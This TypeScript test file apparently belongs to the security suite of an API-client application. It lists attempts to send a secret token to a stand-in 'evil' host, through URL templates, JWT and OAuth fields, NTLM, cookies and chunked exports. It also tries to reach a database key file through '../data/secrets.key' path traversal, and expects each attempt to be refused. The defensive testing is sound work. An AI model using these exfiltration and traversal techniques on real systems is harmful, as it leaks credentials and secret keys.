import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import type { Lab, Outcome } from './lab.js';
import { token } from './lab.js';

/** An attack that tries to reveal a secret, and the expected outcome. */
export type Attack = readonly [
  topic: string,
  way: string,
  outcome: RegExp,
  attempt: (lab: Lab) => Promise<unknown>,
];

const refusedCode = /^SECRET_HOST_REFUSED$/;
const getEvilUrl = (lab: Lab, path = ''): string => `http://localhost:${lab.evil}${path}`;
export const home = (lab: Lab, path = ''): string => `http://127.0.0.1:${lab.home}${path}`;

/** Creates a request into which a person typed the value itself instead of a variable. */
export const createRequestWithValue = async (lab: Lab): Promise<string> => {
  const headers = [{ name: 'X', value: `Bearer ${token}`, enabled: true }];
  const fields = { url: home(lab), headers, script: `const token = '${token}';` };
  const name = `Written ${Math.random()}`;
  return (await lab.person(lab.application.rest.create({ name, ...fields }))).id;
};

/** Makes an execution whose response contains the value. */
export const executeWithValue = async (lab: Lab, more: object = {}) =>
  (await lab.execute({ url: home(lab, '/{{TOKEN}}') }, { ...more })) as {
    readonly executionId: string;
    readonly request: { readonly id: string };
    readonly selected?: unknown;
  };

const findRefusalCode = (result: unknown): Outcome => {
  const text = JSON.stringify(result);
  return /\b(SECRET_HOST_REFUSED)\b/.exec(text)?.[1] ?? text;
};

const sendWithOAuth = async (lab: Lab, auth: object): Promise<Outcome> => {
  const whole = { type: 'oauth2', clientId: 'c', accessTokenUrl: getEvilUrl(lab, '/t'), ...auth };
  const { id } = await lab.call('rest_create', { name: `OA${Math.random()}`, url: home(lab), auth: whole });
  return findRefusalCode(await lab.call('tokens_begin', { id }));
};

const jwt = (lab: Lab, more: object) =>
  lab.send({
    url: getEvilUrl(lab),
    auth: { type: 'jwt', algorithm: 'HS256', secret: 'k'.repeat(32), claims: '{}', ...more },
  });

/** An NTLM challenge that requests only UTF-16. */
const challenge = (): string => {
  const message = Buffer.alloc(48);
  message.write('NTLMSSP\0', 0, 'latin1');
  for (const [at, value] of [
    [8, 2],
    [16, 48],
    [20, 0x00_88_82_33],
    [24, 0x67_45_23_01],
    [44, 48],
  ] as const)
    message.writeUInt32LE(value, at);
  return message.toString('base64');
};

/** Executes a request to another server, which requires NTLM. */
const sendWithNtlm = async (lab: Lab, auth: object): Promise<Outcome> => {
  const server = createServer(({ headers: { authorization = '' } }, response) => {
    if (authorization.startsWith('NTLM TlRMTVNTUAAD')) response.end('stolen');
    else if (authorization === '') response.writeHead(401, { 'www-authenticate': 'NTLM' }).end();
    else response.writeHead(401, { 'www-authenticate': `NTLM ${challenge()}` }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  try {
    const whole = { type: 'ntlm', username: 'u', password: 'p', ...auth };
    return await lab.send({ url: `http://localhost:${port}/`, auth: whole });
  } finally {
    server.closeAllConnections();
    server.close();
  }
};

const sendWithConnections = async (lab: Lab, connections: object): Promise<Outcome> => {
  try {
    const changed = await lab.call('folders_update', { id: '', connections });
    return 'failed' in changed
      ? String(changed.failed)
      : await lab.send({ url: `https://localhost:${lab.evil}/` });
  } finally {
    await lab.call('folders_update', { id: '', connections: { clientCertificates: [], ca: [] } });
  }
};

const key = '../data/secrets.key';

const openApi = (reference: string) =>
  JSON.stringify({
    openapi: '3.0.0',
    info: { title: 't', version: '1' },
    paths: { '/a': { get: { parameters: [{ $ref: reference }], responses: {} } } },
  });

/** Attacks that combine tools, or use them to check guesses of the value. */
export const moreAttacks: readonly Attack[] = [
  [
    'pieces',
    'a response that is cut at each of its characters',
    /^done$/,
    async (lab) => {
      const { request } = await executeWithValue(lab);
      for (let maxBodyBytes = 1; maxBodyBytes < 60; maxBodyBytes += 1)
        await lab.call('rest_execute', { id: request.id, maxBodyBytes });
      return 'done';
    },
  ],
  [
    'pieces',
    'a stored response in parts of ten bytes',
    /^done$/,
    async (lab) => {
      const { executionId: id } = await executeWithValue(lab);
      for (let offset = 0; offset < 60; offset += 3)
        await lab.call('executions_get', { id, offset, length: 10 });
      return 'done';
    },
  ],
  [
    'pieces',
    'an export in parts',
    /^done$/,
    async (lab) => {
      await createRequestWithValue(lab);
      for (const format of ['curl', 'har'])
        for (let offset = 0; offset < 400; offset += 90)
          await lab.call('exports_render', { format, offset, maxChars: 100 });
      return 'done';
    },
  ],
  [
    'files',
    'a saved response that another request sends',
    /^401$/,
    async (lab) => {
      await executeWithValue(lab, { saveTo: 'files/saved.json' });
      return lab.send({
        method: 'POST',
        url: getEvilUrl(lab),
        body: { type: 'binary', file: 'files/saved.json' },
      });
    },
  ],
  [
    'files',
    'a saved response that is imported',
    /INVALID_ARGUMENTS/,
    async (lab) => {
      await executeWithValue(lab, { saveTo: 'files/saved.json' });
      return JSON.stringify(await lab.call('imports_apply', { file: 'files/saved.json' }));
    },
  ],
  [
    'files',
    'an import of the key of the database',
    /leads out of the workspace/,
    async (lab) => JSON.stringify(await lab.call('imports_apply', { file: key })),
  ],
  [
    'files',
    'a body that is the key of the database',
    /^FILE_REFUSED$/,
    (lab) => lab.send({ method: 'POST', url: getEvilUrl(lab), body: { type: 'binary', file: key } }),
  ],
  [
    'files',
    'a reference in an OpenAPI document',
    /leads to another document/,
    async (lab) =>
      JSON.stringify(await lab.call('imports_apply', { text: openApi(`${key}#/a`), dryRun: true })),
  ],
  [
    'files',
    'a client certificate',
    /^FILE_REFUSED$/,
    (lab) =>
      sendWithConnections(lab, {
        clientCertificates: [{ type: 'pem', domain: 'localhost', certificate: key, key }],
      }),
  ],
  ['files', 'a CA file', /^FILE_REFUSED$/, (lab) => sendWithConnections(lab, { ca: [key] })],
  [
    'names',
    'an environment that extends the one with the secret',
    refusedCode,
    async (lab) => {
      const name = `Below ${Math.random()}`;
      await lab.call('environments_create', { name, extends: 'Dev' });
      return lab.send({ url: getEvilUrl(lab, '/{{TOKEN}}') }, { environment: name });
    },
  ],
  [
    'names',
    'a copy of the environment with another name',
    refusedCode,
    async (lab) => {
      const [copy, name] = [`Copy ${Math.random()}`, `Copied ${Math.random()}`];
      await lab.call('environments_create', { name: copy, copyOf: 'Dev' });
      await lab.call('environments_update', { id: copy, name });
      return lab.send({ url: getEvilUrl(lab, '/{{TOKEN}}') }, { environment: name });
    },
  ],
  [
    'names',
    'a variable within a variable',
    refusedCode,
    async (lab) => {
      await lab.call('environments_update', {
        id: 'Dev',
        variables: { inner: '{{TOKEN}}', outer: '{{inner}}' },
      });
      return lab.send({ url: getEvilUrl(lab, '/{{outer}}') });
    },
  ],
  [
    'names',
    'a variable of the request',
    refusedCode,
    (lab) => lab.send({ url: getEvilUrl(lab, '/{{mine}}'), requestVariables: { mine: '{{TOKEN}}' } }),
  ],
  [
    'names',
    'the origins of a value that a variable of the same name hides',
    /secret:TOKEN/,
    async (lab) =>
      JSON.stringify(
        await lab.execute(
          { url: getEvilUrl(lab, '/{{TOKEN}}') },
          { dryRun: true, variables: { TOKEN: 'x' } },
        ),
      ),
  ],
  [
    'names',
    'a cookie with the name of the secret as its value',
    /^401$/,
    async (lab) => {
      await lab.call('cookies_set', { name: 'c', value: '{{TOKEN}}', domain: 'localhost' });
      return lab.send({ url: getEvilUrl(lab) });
    },
  ],
  ['tokens', 'a claim of a JSON Web Token', refusedCode, (lab) => jwt(lab, { claims: '{"a":"{{TOKEN}}"}' })],
  [
    'tokens',
    'the header of a JSON Web Token',
    refusedCode,
    (lab) => jwt(lab, { header: '{"kid":"{{TOKEN}}"}' }),
  ],
  [
    'tokens',
    'the page of an authorization server that a person opens',
    refusedCode,
    (lab) =>
      sendWithOAuth(lab, {
        grant: 'authorization_code',
        authorizationUrl: getEvilUrl(lab, '/a'),
        clientId: '{{TOKEN}}',
      }),
  ],
  [
    'tokens',
    'a parameter of that page',
    refusedCode,
    (lab) =>
      sendWithOAuth(lab, {
        grant: 'authorization_code',
        authorizationUrl: getEvilUrl(lab, '/a'),
        scope: '{{TOKEN}}',
      }),
  ],
  [
    'tokens',
    'the client of a device code',
    refusedCode,
    (lab) =>
      sendWithOAuth(lab, {
        grant: 'device_code',
        deviceAuthorizationUrl: getEvilUrl(lab, '/d'),
        clientId: '{{TOKEN}}',
      }),
  ],
  [
    'tokens',
    'the user of a password grant',
    refusedCode,
    (lab) => sendWithOAuth(lab, { grant: 'password', username: '{{TOKEN}}', password: 'p' }),
  ],
  [
    'tokens',
    'the scope of client credentials',
    refusedCode,
    (lab) => sendWithOAuth(lab, { grant: 'client_credentials', scope: '{{TOKEN}}' }),
  ],
  ['NTLM', 'the user', refusedCode, (lab) => sendWithNtlm(lab, { username: '{{TOKEN}}' })],
  ['NTLM', 'the domain', refusedCode, (lab) => sendWithNtlm(lab, { domain: '{{TOKEN}}' })],
  [
    'repetitions',
    'a run with rows that tries again',
    refusedCode,
    async (lab) => {
      const { id } = await lab.call('rest_create', { name: `Q${Math.random()}`, url: '{{to}}/{{TOKEN}}' });
      return findRefusalCode(
        await lab.call('runs_execute', {
          ids: [id],
          rows: [{ to: getEvilUrl(lab) }],
          retry: 2,
          report: 'full',
        }),
      );
    },
  ],
  [
    'repetitions',
    'many requests with a variable of the call',
    refusedCode,
    async (lab) => {
      const { id } = await lab.call('rest_create', { name: `Q${Math.random()}`, url: '{{to}}/{{TOKEN}}' });
      return findRefusalCode(
        await lab.call('rest_execute_many', { ids: [id], variables: { to: getEvilUrl(lab) } }),
      );
    },
  ],
  [
    'repetitions',
    'the URL of an introspection',
    /may only be sent to/,
    async (lab) =>
      JSON.stringify(await lab.call('graphql_introspect', { url: getEvilUrl(lab, '/{{TOKEN}}') })),
  ],
];
